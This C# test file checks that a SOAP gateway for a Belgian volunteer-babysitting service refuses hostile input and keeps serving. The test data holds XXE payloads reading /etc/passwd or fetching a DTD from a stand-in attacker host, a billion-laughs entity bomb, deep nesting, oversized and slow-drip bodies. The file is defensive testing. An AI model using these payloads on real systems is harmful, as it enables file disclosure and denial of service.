using System.Net.Http.Headers;
using System.Text;

namespace VrijwilligeOppas.Gateway.Tests;

/// <summary>
/// Hostile input at the front door: every case gets a clear refusal (a SOAP fault where the input is not a SOAP 1.1
/// message, else an SSDN reply with the exact reason), nothing reaches the central service, and the gateway goes on
/// serving.
/// </summary>
public sealed class HostileInputTests : IAsyncLifetime
{
    private const string SoapNs = "http://schemas.xmlsoap.org/soap/envelope/";
    private static readonly string Valid = KszMessages.Send(new KszMessages.P("after"));

    private StubCentral _stub = null!;
    private GatewayFactory _gateway = null!;

    public static TheoryData<string, byte[], string, string> Cases => new()
    {
        { "XXE external entity", Utf8($"<?xml version=\"1.0\"?><!DOCTYPE soap:Envelope [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><soap:Envelope xmlns:soap=\"{SoapNs}\"><soap:Body>&e;</soap:Body></soap:Envelope>"), "text/xml", "fault soap:Client" },
        { "XXE parameter entity", Utf8($"<?xml version=\"1.0\"?><!DOCTYPE soap:Envelope [<!ENTITY % p SYSTEM \"http://attacker.invalid/evil.dtd\"> %p;]><soap:Envelope xmlns:soap=\"{SoapNs}\"><soap:Body/></soap:Envelope>"), "text/xml", "fault soap:Client" },
        { "billion laughs", Utf8("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>" + $"<soap:Envelope xmlns:soap=\"{SoapNs}\"><soap:Body>&lol3;</soap:Body></soap:Envelope>"), "text/xml", "fault soap:Client" },
        { "harmless DTD before a valid message", Utf8("<!DOCTYPE soap:Envelope>" + Valid), "text/xml", "fault soap:Client" },
        { "nested 10 000 deep", Utf8(Valid.Replace("<soap:Body>", "<soap:Header>" + string.Concat(Enumerable.Repeat("<x:a xmlns:x=\"urn:deep\">", 10_000)) + string.Concat(Enumerable.Repeat("</x:a>", 10_000)) + "</soap:Header><soap:Body>", StringComparison.Ordinal)), "text/xml", "reason BERICHT_TE_DIEP" },
        { "invalid UTF-8 inside a SOAP 1.1 envelope", InvalidUtf8(Valid), "text/xml", "reason BERICHT_ONGELDIG" },
        { "wrong content type", Utf8(Valid), "application/json", "fault soap:Client" },
        { "SOAP 1.2 envelope", Utf8("<e:Envelope xmlns:e=\"http://www.w3.org/2003/05/soap-envelope\"><e:Body/></e:Envelope>"), "application/soap+xml", "fault soap:VersionMismatch" },
        { "CDATA xmlString holding a DTD", Utf8(KszMessages.Envelope("<bcss:xmlString xmlns:bcss=\"http://ksz-bcss.fgov.be/connectors/WebServiceConnector\"><![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>]]></bcss:xmlString>")), "text/xml", "reason BERICHT_ONGELDIG" },
        { "duplicate payloads", Utf8(Valid.Replace("</vo:SendPrestatiesRequest>", "</vo:SendPrestatiesRequest>" + PayloadOf(Valid), StringComparison.Ordinal)), "text/xml", "reason BERICHT_ONGELDIG" },
        { "ServiceId and payload disagree", Utf8(KszMessages.Send([new KszMessages.P("x")], serviceId: "OCMWCPASVrijwilligeOppasConsult")), "text/xml", "reason SERVICEID_PAYLOAD_VERSCHIL" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Hostile_IsRefusedClearly_NothingReachesTheCentralService_AndTheGatewayKeepsServing(string name, byte[] body, string contentType, string expected)
    {
        var answer = await PostAsync(_gateway, new ByteArrayContent(body), contentType);

        Assert.True(Outcome(answer) == expected, $"{name}: expected {expected}, got {Outcome(answer)}: {answer.Body}");
        Assert.Empty(SchemaValidation.KszErrors(answer.Body));
        Assert.Equal(0, _stub.Requests);
        Assert.Equal(0, (await _gateway.PostAsync(Valid)).ReturnCode);
        Assert.Equal(1, _stub.Requests);
    }

    [Fact]
    public async Task FiftyMegabyteBody_IsRefusedAsTooLarge_AndTheSenderGetsTheAnswer()
    {
        using var gateway = new GatewayFactory(settings: _stub.Settings);
        gateway.UseKestrel(0);
        gateway.StartServer();
        var fifty = new byte[50 * 1024 * 1024];
        Encoding.UTF8.GetBytes(Valid).CopyTo(fifty, 0);

        var answer = await PostAsync(gateway, new ByteArrayContent(fifty), "text/xml");
        var unsized = await PostAsync(gateway, new StreamContent(new MemoryStream(fifty)), "text/xml", chunked: true);

        Assert.Equal(["BERICHT_TE_GROOT"], answer.ReasonCodes);
        Assert.Equal(["BERICHT_TE_GROOT"], unsized.ReasonCodes);
        Assert.Equal(0, _stub.Requests);
        Assert.Equal(0, (await gateway.PostAsync(Valid)).ReturnCode);
    }

    [Fact]
    public async Task SlowDripBody_IsAnsweredAfterTheBodyTimeout_AndTheConnectionClosed()
    {
        var settings = _stub.Settings;
        settings["Gateway:RequestBodyTimeout"] = "00:00:01";
        using var gateway = new GatewayFactory(settings: settings, realClock: true);
        gateway.UseKestrel(0);
        gateway.StartServer();
        var address = gateway.ServerAddress!;

        // A raw socket, so that the test sees exactly what the server sends while the body is still dripping.
        using var socket = new System.Net.Sockets.Socket(System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);
        await socket.ConnectAsync(address.Host, address.Port);
        var body = Utf8(Valid);
        await socket.SendAsync(Utf8("POST /ksz/VrijwilligeOppas HTTP/1.1\r\nHost: gateway\r\nContent-Type: text/xml; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n"));
        await socket.SendAsync(Chunk(body.AsSpan(0, 100)));
        var started = System.Diagnostics.Stopwatch.StartNew();
        var response = new MemoryStream();
        var buffer = new byte[8192];
        for (var i = 100; started.Elapsed < TimeSpan.FromSeconds(30); i++)
        {
            if (socket.Available == 0 && !socket.Poll(TimeSpan.FromSeconds(1), System.Net.Sockets.SelectMode.SelectRead))
            {
                await socket.SendAsync(Chunk(body.AsSpan(i, 1)));
                continue;
            }

            int read;
            try
            {
                read = await socket.ReceiveAsync(buffer);
            }
            catch (System.Net.Sockets.SocketException ex) when (ex.SocketErrorCode == System.Net.Sockets.SocketError.ConnectionReset)
            {
                break; // Kestrel resets a connection whose unread body keeps dripping; the answer was read before.
            }

            if (read == 0)
            {
                break;
            }

            response.Write(buffer, 0, read);
        }

        var text = Encoding.UTF8.GetString(response.ToArray());
        Assert.StartsWith("HTTP/1.1 200", text, StringComparison.Ordinal);
        Assert.Contains("Connection: close", text, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("<common:ReasonCode>BERICHT_TE_TRAAG</common:ReasonCode>", text, StringComparison.Ordinal);
        Assert.True(started.Elapsed < TimeSpan.FromSeconds(30), $"closed after {started.Elapsed}");
        Assert.Equal(0, _stub.Requests);
    }

    private static byte[] Chunk(ReadOnlySpan<byte> data) =>
        [.. Utf8(data.Length.ToString("x", System.Globalization.CultureInfo.InvariantCulture) + "\r\n"), .. data, .. "\r\n"u8];

    public async Task InitializeAsync()
    {
        _stub = await StubCentral.StartAsync(StubCentral.AcceptAll);
        _gateway = new GatewayFactory(settings: _stub.Settings);
    }

    public async Task DisposeAsync()
    {
        _gateway.Dispose();
        await _stub.DisposeAsync();
    }

    private static string Outcome(KszAnswer answer) => answer.FaultCode is { } fault ? "fault " + fault : "reason " + string.Join(",", answer.ReasonCodes);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    /// <summary>The message with one byte of its reference replaced by 0xFF, which is never valid UTF-8.</summary>
    private static byte[] InvalidUtf8(string xml)
    {
        var bytes = Utf8(xml);
        bytes[Encoding.UTF8.GetByteCount(xml[..xml.IndexOf("REF-1", StringComparison.Ordinal)])] = 0xFF;
        return bytes;
    }

    private static string PayloadOf(string xml)
    {
        var start = xml.IndexOf("<vo:SendPrestatiesRequest>", StringComparison.Ordinal);
        var end = xml.IndexOf("</vo:SendPrestatiesRequest>", StringComparison.Ordinal) + "</vo:SendPrestatiesRequest>".Length;
        return xml[start..end];
    }

    private static async Task<KszAnswer> PostAsync(GatewayFactory gateway, HttpContent content, string contentType, bool chunked = false)
    {
        // On Kestrel a plain client: the factory's redirect handler would buffer the body and turn a drip into one late burst.
        using var client = gateway.ServerAddress is { } address ? new HttpClient { BaseAddress = address } : gateway.CreateClient();
        client.Timeout = TimeSpan.FromSeconds(60);
        content.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);
        using var request = new HttpRequestMessage(HttpMethod.Post, "/ksz/VrijwilligeOppas") { Content = content };
        request.Headers.TransferEncodingChunked = chunked;
        using var response = await client.SendAsync(request);
        return new KszAnswer((int)response.StatusCode, await response.Content.ReadAsStringAsync());
    }
}
